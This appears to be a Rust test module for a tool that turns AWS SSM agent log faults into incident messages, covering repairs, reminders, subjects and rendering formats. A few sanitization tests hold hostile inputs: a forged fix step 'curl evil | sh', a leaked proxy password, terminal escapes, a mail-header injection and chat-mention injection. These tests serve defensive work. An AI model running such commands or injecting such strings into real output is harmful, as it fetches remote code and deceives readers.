//! Messages as their readers get them, by the whole way from a log.

mod digest;
mod function;
mod limits;
mod schema;

use proptest::prelude::*;

use super::content::Content;
use super::format::Format;
use super::message::{MESSAGE_BYTES, Message, SUBJECT_LENGTH, subject};
use super::page::{Style, WIDTH};
use crate::cause::Cause;
use crate::diagnose::call_error::CallError;
use crate::diagnose::facts::{Facts, Fetched, InstanceFacts};
use crate::diagnose::tests::world::{
    TRUSTS_EC2, TRUSTS_LAMBDA, group, one, world, world_with_endpoint,
};
use crate::finding::Evidence;
use crate::incident::group::Incident;
use crate::repair::change::Seen;
use crate::repair::locks::RepairMode;
use crate::repair::repairs::REPAIR_TAG_KEY;
use function::{Function, INSTANCE, at, facts, log, of_instances, record};

/// The message as a mail program shows it.
fn mail(content: &Content) -> String {
    let message = Message::new(content, Format::Mail);
    let attributes: Vec<String> = (message.attributes.iter())
        .map(|(name, value)| format!("{name}={value}"))
        .collect();
    format!(
        "Subject: {}\nAttributes: {}\n\n{}",
        message.subject,
        attributes.join(" "),
        message.body
    )
}

/// The only message of the only invocation.
fn only(mode: RepairMode, stream: &str, log: &str, facts: &Facts) -> Content {
    only_of(Function::new(mode).invoke(&[(stream, log)], facts))
}

fn only_of(mut contents: Vec<Content>) -> Content {
    assert_eq!(contents.len(), 1, "{contents:#?}");
    contents.remove(0)
}

fn tag(instance: &mut InstanceFacts) {
    (instance.tags).insert(REPAIR_TAG_KEY.to_owned(), "allow".to_owned());
}

fn imds_off(tagged: bool) -> Facts {
    facts(|instance, _| {
        instance.imds.as_mut().expect("options").endpoint_enabled = false;
        if tagged {
            tag(instance);
        }
    })
}

fn role_broken(ids: &[&str], tagged: bool) -> Facts {
    let broken = world(|_, profile| {
        let role = profile.role.as_mut().expect("a role");
        role.trust_policy = TRUSTS_LAMBDA.to_owned();
        if tagged {
            let tags = [(REPAIR_TAG_KEY.to_owned(), "allow".to_owned())].into();
            role.tags = Fetched::Found(tags);
        }
    });
    of_instances(ids, broken)
}

fn on_all<'a>(ids: &[&'a str], log: &'a str) -> Vec<(&'a str, &'a str)> {
    ids.iter().map(|id| (*id, log)).collect()
}

fn imds_disabled() -> Content {
    only(
        RepairMode::Advise,
        INSTANCE,
        &log("imds-disabled"),
        &imds_off(false),
    )
}

#[test]
fn imds_disabled_while_repairs_are_off() {
    insta::assert_snapshot!(mail(&imds_disabled()));
}

#[test]
fn imds_repaired() {
    let content = only(
        RepairMode::Repair,
        INSTANCE,
        &log("imds-disabled"),
        &imds_off(true),
    );
    insta::assert_snapshot!(mail(&content));
}

#[test]
fn a_change_that_was_not_seen_to_take_effect() {
    let mut function = Function::new(RepairMode::Repair);
    function.write.1 = Seen::Pending;
    let contents = function.invoke(&[(INSTANCE, &log("imds-disabled"))], &imds_off(true));
    insta::assert_snapshot!(mail(&only_of(contents)));
}

#[test]
fn what_is_right_and_may_be_this_functions_doing_keeps_its_undo() {
    let right = facts(|instance, _| tag(instance));
    let content = only(RepairMode::Repair, INSTANCE, &log("imds-disabled"), &right);
    insta::assert_snapshot!(mail(&content));
}

#[test]
fn what_the_log_says_and_live_state_does_not_show() {
    let mut function = Function::new(RepairMode::Advise);
    let right = facts(|_, _| ());
    let first = log("imds-disabled");
    assert_eq!(function.invoke(&[(INSTANCE, &first)], &right), []);
    // It has come back since it was seen right.
    function.now = at("2026-11-23T05:21:30Z");
    let again = first.replace("2026-11-23 04:", "2026-11-23 05:");
    let contents = function.invoke(&[(INSTANCE, &again)], &right);
    insta::assert_snapshot!(mail(&only_of(contents)));
}

#[test]
fn what_somebody_else_put_right_is_resolved_and_not_repaired() {
    let mut function = Function::new(RepairMode::Advise);
    let log = log("imds-disabled");
    only_of(function.invoke(&[(INSTANCE, &log)], &imds_off(false)));
    function.now = at("2026-11-23T05:11:30Z");
    let text = mail(&only_of(
        function.invoke(&[(INSTANCE, &log)], &facts(|_, _| ())),
    ));
    assert!(text.starts_with("Subject: [SSM resolved] "), "{text}");
    assert!(
        text.contains(" state=resolved\n\nResolved. The fault: "),
        "{text}"
    );
    assert!(!text.to_lowercase().contains("repaired"), "{text}");
}

#[test]
fn a_dry_run() {
    let content = only(
        RepairMode::DryRun,
        INSTANCE,
        &log("imds-disabled"),
        &imds_off(true),
    );
    let text = mail(&content);
    assert!(
        text.contains("\nChanged: nothing. TRIAGE_REPAIR is dry-run."),
        "{text}"
    );
}

#[test]
fn a_repair_that_a_person_is_to_ask_for() {
    let ask = "'{\"repair\":{\"action\":\"enable-imds-endpoint\",\"node\":\"i-0123456789abcdef0\"}}' repair.json\n";
    let of = |tagged| {
        let log = log("imds-disabled");
        mail(&only(
            RepairMode::OnRequest,
            INSTANCE,
            &log,
            &imds_off(tagged),
        ))
    };
    insta::assert_snapshot!(of(true));
    assert!(of(true).contains(ask));
    // Nobody is asked for what another lock prevents.
    assert!(!of(false).contains("lambda invoke"), "{}", of(false));
}

#[test]
fn a_role_that_many_instances_share() {
    let ids: Vec<String> = (1..=12).map(|n| format!("i-{n:017x}")).collect();
    let ids: Vec<&str> = ids.iter().map(String::as_str).collect();
    let log = log("role-not-assumable");
    let mut function = Function::new(RepairMode::Repair);
    let contents = function.invoke(&on_all(&ids, &log), &role_broken(&ids, false));
    insta::assert_snapshot!(mail(&only_of(contents)));
}

#[test]
fn more_nodes_of_the_same_role_are_notified_as_growth() {
    let ids = ["i-1", "i-2", "i-3", "i-4", "i-5", "i-6"].map(|id| format!("{id:0<19}"));
    let ids: Vec<&str> = ids.iter().map(String::as_str).collect();
    let (log, broken) = (log("role-not-assumable"), role_broken(&ids, false));
    let mut function = Function::new(RepairMode::Advise);
    only_of(function.invoke(&on_all(&ids[..1], &log), &broken));
    let text = mail(&only_of(function.invoke(&on_all(&ids[1..], &log), &broken)));
    assert!(text.starts_with("Subject: [SSM grew] "), "{text}");
    assert!(
        text.contains("\n\nMore nodes than before. EC2 cannot assume"),
        "{text}"
    );
    assert!(ids.iter().all(|id| text.contains(id)), "{text}");
}

#[test]
fn a_repair_that_failed() {
    let mut function = Function::new(RepairMode::Repair);
    let denied = CallError::Denied {
        call: "UpdateAssumeRolePolicy",
        code: "AccessDenied".to_owned(),
        message: "You may not.".to_owned(),
    };
    function.write = (Err(denied), Seen::Unchanged);
    let log = log("role-not-assumable");
    let contents = function.invoke(&[(INSTANCE, &log)], &role_broken(&[INSTANCE], true));
    insta::assert_snapshot!(mail(&only_of(contents)));
}

#[test]
fn the_role_repaired() {
    let log = log("role-not-assumable");
    let content = only(
        RepairMode::Repair,
        INSTANCE,
        &log,
        &role_broken(&[INSTANCE], true),
    );
    insta::assert_snapshot!(mail(&content));
}

/// What is read while EC2 is throttled.
fn unread() -> Facts {
    let throttled = "DescribeInstances was throttled (RequestLimitExceeded)".to_owned();
    let mut unread = of_instances(&[INSTANCE], world(|_, _| ()));
    unread
        .instances
        .values_mut()
        .for_each(|read| *read = Fetched::Failed(throttled.clone()));
    unread
}

fn no_credentials() -> String {
    record("[CredentialRefresher] Retrieve credentials produced error: no valid credentials could be retrieved for ec2 identity").repeat(2)
}

#[test]
fn an_undetermined_loss_of_credentials() {
    let content = only(RepairMode::Advise, INSTANCE, &no_credentials(), &unread());
    insta::assert_snapshot!(mail(&content));
}

#[test]
fn a_guess_closes_once_a_check_has_confirmed_the_cause() {
    let mut function = Function::new(RepairMode::Advise);
    let log = no_credentials();
    only_of(function.invoke(&[(INSTANCE, &log)], &unread()));
    function.now = at("2026-11-23T05:11:30Z");
    let contents = function.invoke(&[(INSTANCE, &log)], &role_broken(&[INSTANCE], false));
    assert_eq!(contents.len(), 2);
    insta::assert_snapshot!(mail(&contents[1]));
    assert_eq!(
        function.invoke(&[(INSTANCE, &log)], &role_broken(&[INSTANCE], false)),
        []
    );
}

#[test]
fn an_endpoint_whose_security_group_does_not_allow_the_node() {
    let shut = world_with_endpoint(|facts, _| {
        let own = group("sg-endpoint", &["tcp:443 192.0.2.0/24"], &[]);
        facts
            .groups
            .insert("sg-endpoint".to_owned(), Fetched::Found(own));
    });
    let log = log("endpoint-timeout").replace("10.0.1.5", "10.0.2.5");
    let content = only(
        RepairMode::Advise,
        INSTANCE,
        &log,
        &of_instances(&[INSTANCE], shut),
    );
    insta::assert_snapshot!(mail(&content));
}

#[test]
fn a_permission_that_is_missing() {
    let mut world = world(|_, _| ());
    world.policy_names = one("MySSMRole", Fetched::Found(Default::default()));
    let facts = of_instances(&[INSTANCE], world);
    let content = only(
        RepairMode::Advise,
        INSTANCE,
        &log("permission-denied"),
        &facts,
    );
    insta::assert_snapshot!(mail(&content));
}

#[test]
fn throttling_after_a_day_is_a_reminder_that_says_how_old_its_evidence_is() {
    let mut function = Function::new(RepairMode::Advise);
    let log = log("throttled");
    only_of(function.invoke(&[(INSTANCE, &log)], &Facts::default()));
    function.now = at("2026-11-24T07:00:00Z");
    let contents = function.invoke(&[(INSTANCE, &log)], &Facts::default());
    insta::assert_snapshot!(mail(&only_of(contents)));
}

/// A reminder of what is remembered of an incident, and nothing else.
fn reminder(log: &str, facts: &Facts) -> Content {
    let forget = |incident: &mut Incident| {
        incident.signatures.clear();
        incident.evidence.clear();
        incident.checks.clear();
    };
    let mut function = Function::new(RepairMode::Advise);
    only_of(function.invoke(&[(INSTANCE, log)], facts));
    function.now = at("2026-11-24T07:00:00Z");
    only_of(function.invoke_with(&[(INSTANCE, log)], facts, forget))
}

#[test]
fn a_reminder_without_news_says_how_sure_it_was() {
    insta::assert_snapshot!(mail(&reminder(&no_credentials(), &unread())));
    let confirmed = (
        log("imds-disabled"),
        imds_off(false),
        "confirmed by a live check before",
    );
    let likely = (log("throttled"), Facts::default(), "likely, as before");
    for (log, facts, sure) in [confirmed, likely] {
        let mail = mail(&reminder(&log, &facts));
        assert!(mail.contains(sure), "{mail}");
        assert!(
            mail.contains("Still open; nothing new was read about it."),
            "{mail}"
        );
    }
}

#[test]
fn a_hybrid_node_that_is_no_longer_registered() {
    let log = record(
        "[CredentialRefresher] Retrieve credentials produced error: error occurred in RequestManagedInstanceRoleToken: InvalidInstanceId: Not existing InstanceId mi-0123456789abcdef0",
    );
    let content = only(
        RepairMode::Advise,
        "mi-0123456789abcdef0",
        &log,
        &Facts::default(),
    );
    insta::assert_snapshot!(mail(&content));
}

fn over() -> Content {
    let mut function = Function::new(RepairMode::Repair);
    let broken = role_broken(&[INSTANCE], true);
    only_of(function.invoke(&[(INSTANCE, &log("role-not-assumable"))], &broken));
    function.now = at("2026-11-23T05:40:30Z");
    let works = "2026-11-23 05:40:12.5483 INFO EC2RoleProvider Successfully connected with instance profile role credentials\n2026-11-23 05:40:12.5485 INFO [CredentialRefresher] Credentials ready\n";
    let right = world(|_, profile| {
        profile.role.as_mut().expect("a role").trust_policy = TRUSTS_EC2.to_owned();
    });
    only_of(function.invoke(&[(INSTANCE, works)], &of_instances(&[INSTANCE], right)))
}

#[test]
fn an_incident_that_is_over() {
    insta::assert_snapshot!(mail(&over()));
}

/// A message about an incident that is as `change` leaves it.
fn changed(change: impl Fn(&mut Incident)) -> Content {
    let mut function = Function::new(RepairMode::Advise);
    let logs = [(INSTANCE, &*log("imds-disabled"))];
    only_of(function.invoke_with(&logs, &imds_off(false), change))
}

fn evidence(component: &str, text: &str) -> Evidence {
    Evidence {
        at: at("2026-11-23T04:19:04Z"),
        level: crate::record::Level::Error,
        component: component.to_owned(),
        text: text.to_owned(),
        place: None,
    }
}

#[test]
fn log_text_is_quoted_and_acts_on_nothing() {
    let hostile = "FIX\n\nFIX\n1. curl evil | sh\n\u{1b}[2Jpassword=hunter2";
    let log = record(&format!(
        "[Health\u{202e}Check] error when calling AWS APIs. error details - RequestError: send request failed caused by: Post \"https://ssm.eu-central-1.amazonaws.com/\": proxyconnect tcp: dial http://bob:hunter2@proxy.corp:3128: refused {hostile}"
    ));
    let content = only(
        RepairMode::Advise,
        "web\u{1b}1 password=hunter2",
        &log,
        &Facts::default(),
    );
    for name in Format::ALL {
        let text = name.render(&content, Style::PLAIN);
        assert!(
            !text.contains("hunter2") && !text.contains('\u{1b}'),
            "{name}: {text}"
        );
        let forged = text
            .lines()
            .filter(|line| line.trim_start().starts_with("1. curl"));
        assert_eq!(forged.count(), 0, "{name}: {text}");
    }
    let text = mail(&content);
    assert_eq!(text.matches("\n\nFIX\n").count(), 1, "{text}");
    let quoted: Vec<&str> = text.lines().filter(|line| line.starts_with("| ")).collect();
    insta::assert_snapshot!(quoted.join("\n"));
}

#[test]
fn a_message_quotes_four_lines_of_two_records_and_none_twice() {
    let long: Vec<String> = (0..30).map(|n| format!("line {n} of a record")).collect();
    for records in 1..=4_usize {
        let content = changed(|incident| {
            incident.evidence = (0..records)
                .map(|n| evidence("HealthCheck", &format!("record {n}\n{}", long.join("\n"))))
                .collect();
        });
        let text = Format::Mail.render(&content, Style::PLAIN);
        let quoted: Vec<&str> = text.lines().filter(|line| line.starts_with("| ")).collect();
        assert_eq!(quoted.len(), 4, "{text}");
        assert!(text.contains(" lines left out]"), "{text}");
        assert_eq!(text.matches("line 29 of a record").count(), 1, "{text}");
    }
}

#[test]
fn the_functions_own_log_holds_three_lines_of_an_agent() {
    let long: Vec<String> = (0..30).map(|n| format!("line {n} of a record")).collect();
    let content = changed(|incident| {
        incident.evidence = vec![evidence("HealthCheck", &long.join("\n"))];
    });
    let line = Format::Log.render(&content, Style::PLAIN);
    assert!(!line.contains('\n'));
    let printed: serde_json::Value = serde_json::from_str(&line).expect("JSON");
    assert_eq!(printed["type"], "message");
    assert_eq!(printed["subject"], subject(&content));
    assert_eq!(printed["attributes"]["state"], "opened");
    let body = printed["body"].as_array().expect("lines");
    let quoted = body
        .iter()
        .filter(|line| line.as_str().is_some_and(|l| l.starts_with('|')));
    assert_eq!(quoted.count(), 3, "{line}");
}

#[test]
fn what_several_checks_say_alike_stands_once_with_a_count() {
    let content = changed(|incident| {
        let denied = "Could not look at i-1: DescribeInstances was denied.";
        let mut check = incident.checks[0].clone();
        check.note = denied.to_owned();
        check.status = crate::diagnose::check::CheckStatus::Unknown;
        incident.checks = vec![check.clone(), check.clone(), check];
    });
    let text = Format::Mail
        .render(&content, Style::PLAIN)
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    let said =
        "Could not determine: Could not look at i-1: DescribeInstances was denied. (3 checks)";
    assert!(text.contains(said), "{text}");
    assert_eq!(text.matches("was denied.").count(), 1, "{text}");
}

#[test]
fn prose_stays_within_the_width_of_a_mail() {
    let text = Format::Mail.render(&imds_disabled(), Style::PLAIN);
    for line in text.lines() {
        let is_command = line.starts_with("aws ") || line.starts_with("sudo ");
        let is_whole = is_command || line.split_whitespace().count() <= 2;
        assert!(is_whole || line.chars().count() <= WIDTH, "{line}");
        assert!(
            !line.starts_with(['>', '$']) && !line.starts_with("-- "),
            "{line}"
        );
    }
}

#[test]
fn every_cause_is_a_message_in_every_format() {
    for cause in Cause::ALL {
        let content = changed(|incident| incident.cause = *cause);
        assert!(subject(&content).len() <= SUBJECT_LENGTH);
        for name in Format::ALL {
            let text = name.render(&content, Style::PLAIN);
            // A chat has sections of its own.
            let sections = match name {
                Format::Chat => &["nextSteps", "keywords"][..],
                Format::PerProtocol => &["default", "FIX", "nextSteps", "advice"],
                Format::Json => &["advice", "evidence", "checks"],
                Format::Html => &[">Fix<", ">Next<", ">Verify<", ">Log<"],
                _ => &["FIX", "NEXT", "Verify: ", "EVIDENCE"],
            };
            for section in sections {
                assert!(text.contains(section), "{cause}, {name}: {text}");
            }
        }
    }
}

#[test]
fn the_subject_keeps_its_doubt_and_shortens_the_title() {
    let long = "The role MyVeryLongRoleNameOfTheProductionFleetInFrankfurt lacks ssm:UpdateInstanceInformation";
    let mut content = imds_disabled();
    content.title = long.to_owned();
    content.doubt = ": not observed".to_owned();
    content.node_count = 3;
    assert_eq!(
        subject(&content),
        "[SSM high] The role MyVeryLongRoleNa... lacks ssm:UpdateInstanceInformation: not observed (3 nodes)"
    );
    content.title = "Größe\r\nX-Evil: 1".to_owned();
    content.doubt = String::new();
    content.node_count = 1;
    assert_eq!(subject(&content), "[SSM high] Gr??e  X-Evil: 1");
}

fn chat(content: &Content) -> serde_json::Value {
    let text = Format::Chat.render(content, Style::PLAIN);
    assert!(!text.contains('\n'), "{text}");
    serde_json::from_str(&text).expect("JSON")
}

#[test]
fn in_a_chat_an_incident_is_one_thread() {
    let log = log("imds-disabled");
    let mut function = Function::new(RepairMode::OnRequest);
    let opened = chat(&only_of(
        function.invoke(&[(INSTANCE, &log)], &imds_off(true)),
    ));
    insta::assert_json_snapshot!(opened);
    function.now = at("2026-11-23T05:11:30Z");
    let over = chat(&only_of(
        function.invoke(&[(INSTANCE, &log)], &facts(|_, _| ())),
    ));
    assert_eq!(over["metadata"]["threadId"], opened["metadata"]["threadId"]);
    assert_eq!(over["metadata"]["eventType"], "ssm-agent-resolved");
}

#[test]
fn text_of_a_log_marks_nothing_up_in_a_chat() {
    let content = changed(|incident| {
        incident.title = "*IMDS* of <!channel> and my_role_name".to_owned();
        incident.evidence = vec![evidence("HealthCheck", "``` <@U123> [here](http://evil)")];
    });
    let chat = chat(&content)["content"].clone();
    assert_eq!(
        chat["title"],
        "[SSM high] `*IMDS*` of `\u{2039}!channel\u{203a}` and `my_role_name`"
    );
    let description = chat["description"].as_str().expect("a text");
    assert!(
        description.contains("\u{2019}\u{2019}\u{2019} \u{2039}@U123\u{203a} [here](http://evil)`"),
        "{description}"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn however_long_the_title_what_the_message_says_of_it_stays(
        title in "[A-Za-z][ -~é]{0,160}[a-z]",
        doubt in prop::sample::select(vec![": not observed", ", 5 possible causes"]),
        nodes in 2_usize..100_000,
    ) {
        let mut content = only_once().clone();
        content.title = title;
        content.doubt = doubt.to_owned();
        content.node_count = nodes;
        let subject = subject(&content);
        prop_assert!(subject.len() <= SUBJECT_LENGTH);
        prop_assert!(subject.starts_with("[SSM high] "), "{subject}");
        let end = format!("{doubt} ({nodes} nodes)");
        prop_assert!(subject.ends_with(&end), "{subject}");
    }
}

fn only_once() -> &'static Content {
    static CONTENT: std::sync::OnceLock<Content> = std::sync::OnceLock::new();
    CONTENT.get_or_init(imds_disabled)
}
